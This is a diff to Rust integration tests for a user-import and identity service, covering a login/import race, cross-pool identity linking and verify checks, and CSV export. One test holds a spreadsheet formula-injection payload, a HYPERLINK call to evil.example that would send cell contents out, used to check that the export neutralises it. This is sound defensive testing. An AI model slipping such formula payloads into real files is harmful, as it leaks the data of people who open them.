@@ -125,60 +125,79 @@ async fn a_login_racing_an_import_of_the_same_person_gives_one_account() {
     let app = TestApp::spawn(&services).await;
     let mut broker = Broker::connect(&services).await;
     let people = 600;
-    let file = services.dir.join("people.jsonl");
-    let mut f = std::fs::File::create(&file).unwrap();
-    for i in 0..people {
-        writeln!(
-            f,
-            r#"{{"user_pool_id": "pool-1", "email": "p{i}@corp.example", "email_verified": true}}"#
-        )
-        .unwrap();
-    }
-    drop(f);
+    // A round where one side was done before the other began proves nothing of the race (on a
+    // loaded machine the import's process may start late): each round must be right, and rounds
+    // are run until both sides have won for someone.
+    let (mut import_first, mut login_first) = (0, 0);
+    for round in 0..5 {
+        let file = services.dir.join(format!("people-{round}.jsonl"));
+        let mut f = std::fs::File::create(&file).unwrap();
+        for i in 0..people {
+            writeln!(
+                f,
+                r#"{{"user_pool_id": "pool-1", "email": "p{round}-{i}@corp.example", "email_verified": true}}"#
+            )
+            .unwrap();
+        }
+        drop(f);
 
-    // The same people log in (field matching on email) while the import runs.
-    let importing = tokio::task::spawn_blocking({
-        let mut command = services.command();
-        command.args(["users", "import", file.to_str().unwrap()]);
-        move || run(&mut command)
-    });
-    let mut pending = Vec::new();
-    for i in (0..people).rev() {
-        let event = login(
-            "matching",
-            &format!("dt-{i}"),
-            json!({"email": format!("p{i}@corp.example"), "email_verified": true}),
+        // The same people log in (field matching on email) while the import runs.
+        let importing = tokio::task::spawn_blocking({
+            let mut command = services.command();
+            command.args(["users", "import", file.to_str().unwrap()]);
+            move || run(&mut command)
+        });
+        let mut pending = Vec::new();
+        for i in (0..people).rev() {
+            let event = login(
+                "matching",
+                &format!("dt-{round}-{i}"),
+                json!({"email": format!("p{round}-{i}@corp.example"), "email_verified": true}),
+            );
+            pending.push(broker.request(&event).await);
+        }
+        let mut linked = 0;
+        for correlation_id in pending {
+            match broker.reply(&correlation_id).await.outcome {
+                Outcome::UserLinked => linked += 1,
+                Outcome::UserCreated => {}
+                other => panic!("unexpected {other:?}"),
+            }
+        }
+        let (code, stdout, stderr) = importing.await.unwrap();
+        assert_eq!(code, 0, "every line accepted: {stdout}{stderr}");
+        let so_far = (people * (round + 1)) as i64;
+        assert_eq!(
+            count(&db, "SELECT count(*) FROM users").await,
+            so_far,
+            "{stdout}{stderr}"
         );
-        pending.push(broker.request(&event).await);
-    }
-    let mut linked = 0;
-    for correlation_id in pending {
-        match broker.reply(&correlation_id).await.outcome {
-            Outcome::UserLinked => linked += 1,
-            Outcome::UserCreated => {}
-            other => panic!("unexpected {other:?}"),
+        assert_eq!(count(&db, "SELECT count(*) FROM identities").await, so_far);
+        // Every person the import added first was linked by the login; every other one the
+        // login created first, and the import found it already there.
+        let figure = |name: &str| -> i64 {
+            stdout
+                .split(&format!("{name} "))
+                .nth(1)
+                .and_then(|s| s.split(|c: char| !c.is_ascii_digit()).next())
+                .and_then(|n| n.parse().ok())
+                .unwrap_or_else(|| panic!("no {name} in {stdout}"))
+        };
+        let (added, present, failed) =
+            (figure("added"), figure("already present"), figure("failed"));
+        assert_eq!(failed, 0, "{stdout}");
+        assert_eq!(added + present, people as i64, "{stdout}");
+        assert_eq!(added, linked, "{stdout}");
+        import_first += linked;
+        login_first += present;
+        if import_first > 0 && login_first > 0 {
+            app.stop().await;
+            return;
         }
     }
-    let (_, stdout, stderr) = importing.await.unwrap();
-    assert_eq!(
-        count(&db, "SELECT count(*) FROM users").await,
-        people as i64,
-        "{stdout}{stderr}"
+    panic!(
+        "in five rounds the import came first for {import_first} people and the login for {login_first}"
     );
-    assert_eq!(
-        count(&db, "SELECT count(*) FROM identities").await,
-        people as i64
-    );
-    // Every person the import added first was linked by the login; every other one the login
-    // created first, and the import found it already there.
-    let added: i64 = stdout
-        .split("added ")
-        .nth(1)
-        .and_then(|s| s.split(',').next())
-        .and_then(|n| n.parse().ok())
-        .unwrap_or_else(|| panic!("{stdout}"));
-    assert_eq!(added, linked, "{stdout}");
-    app.stop().await;
 }
 
 #[tokio::test]
@@ -358,4 +377,118 @@ async fn unreadable_lines_fail_alone_and_identities_join_an_existing_account_onl
             .await
             .unwrap();
     assert_eq!(linked.0, existing);
+}
+
+/// A connection is named inside its pool: an import line may link ahead an identity of a
+/// connection of its own pool, or of one unknown everywhere (created later), never one of
+/// another pool's connections; and `verify` reports such an identity however it got there.
+#[tokio::test]
+async fn an_import_line_cannot_link_an_identity_of_another_pools_connection() {
+    let services = Services::new().await;
+    // `run` stores the configured connections (all of pool-1).
+    TestApp::spawn(&services).await.stop().await;
+    let db = services.db().await;
+    let file = services.dir.join("pools.jsonl");
+    std::fs::write(
+        &file,
+        concat!(
+            // pool-2 has no connection; `matching` is pool-1's.
+            r#"{"user_pool_id": "pool-2", "username": "borrower", "identities": [{"connection": "matching", "external_id": "dt-x"}]}"#,
+            "\n",
+            r#"{"user_pool_id": "pool-2", "username": "early", "identities": [{"connection": "future-sso", "external_id": "f-1"}]}"#,
+            "\n",
+            r#"{"user_pool_id": "pool-1", "username": "own", "identities": [{"connection": "matching", "external_id": "dt-own"}]}"#,
+            "\n",
+        ),
+    )
+    .unwrap();
+    let (code, stdout, stderr) = import(&services, &file, &[]);
+    assert_eq!(code, 1, "a failed line fails the run: {stdout}{stderr}");
+    assert_eq!(failed_lines(&stderr), [1], "{stderr}");
+    assert!(
+        stderr.contains("connection matching belongs to user pool pool-1"),
+        "{stderr}"
+    );
+    assert!(
+        stdout.contains("added 2, already present 0, failed 1"),
+        "{stdout}"
+    );
+    assert_eq!(
+        count(&db, "SELECT count(*) FROM identities WHERE user_pool_id = 'pool-2' AND connection = 'matching'")
+            .await,
+        0
+    );
+    let verify = |services: &Services| {
+        let mut command = services.command();
+        command.arg("verify");
+        run(&mut command)
+    };
+    let (code, stdout, stderr) = verify(&services);
+    assert_eq!(code, 0, "{stdout}{stderr}");
+
+    // However it got there, verify names it.
+    sqlx::query(
+        "INSERT INTO identities (user_pool_id, connection, external_id, user_id, profile)
+         SELECT 'pool-2', 'matching', 'dt-orphan', id, '{}' FROM users WHERE username = 'early'",
+    )
+    .execute(&db)
+    .await
+    .unwrap();
+    let (code, stdout, stderr) = verify(&services);
+    assert_eq!(code, 1, "{stdout}{stderr}");
+    assert!(
+        stdout
+            .contains("an identity of a connection that belongs to another pool: pool-2/matching"),
+        "{stdout}{stderr}"
+    );
+}
+
+/// A name that a spreadsheet would run as a formula, set by a plain login, is written to a CSV
+/// export neutralised (a `'` in front), and the import reads it back as it was stored.
+#[tokio::test]
+async fn a_csv_export_neutralises_formulas_and_reads_back_unchanged() {
+    let services = Services::new().await;
+    let app = TestApp::spawn(&services).await;
+    let mut broker = Broker::connect(&services).await;
+    let formula = r#"=HYPERLINK("http://evil.example/?x="&A2,"click")"#;
+    for (n, name) in [formula, "+1 dialled", "-minus", "@at", "'quoted", "plain"]
+        .into_iter()
+        .enumerate()
+    {
+        let reply = broker
+            .login(&login("plain", &format!("x-{n}"), json!({"name": name})))
+            .await;
+        assert_eq!(reply.outcome, Outcome::UserCreated);
+    }
+    app.stop().await;
+    let mut command = services.command();
+    command.args(["users", "export", "--format", "csv"]);
+    let (code, csv, stderr) = run(&mut command);
+    assert_eq!(code, 0, "{stderr}");
+    let mut reader = ::csv::Reader::from_reader(csv.as_bytes());
+    let names: Vec<String> = reader.records().map(|r| r.unwrap()[7].to_owned()).collect();
+    assert!(names.contains(&format!("'{formula}")), "{names:?}");
+    for cell in &names {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a cell a spreadsheet would run: {cell:?}"
+        );
+    }
+    // Into another database: the same names.
+    let other = Services::new().await;
+    let path = other.dir.join("export.csv");
+    std::fs::write(&path, &csv).unwrap();
+    let (code, stdout, stderr) = import(&other, &path, &[]);
+    assert_eq!(code, 0, "{stdout}{stderr}");
+    let db = other.db().await;
+    let mut stored: Vec<String> = sqlx::query_scalar("SELECT name FROM users ORDER BY name")
+        .fetch_all(&db)
+        .await
+        .unwrap();
+    stored.sort();
+    let mut expected: Vec<String> = [formula, "+1 dialled", "-minus", "@at", "'quoted", "plain"]
+        .map(str::to_owned)
+        .to_vec();
+    expected.sort();
+    assert_eq!(stored, expected);
 }
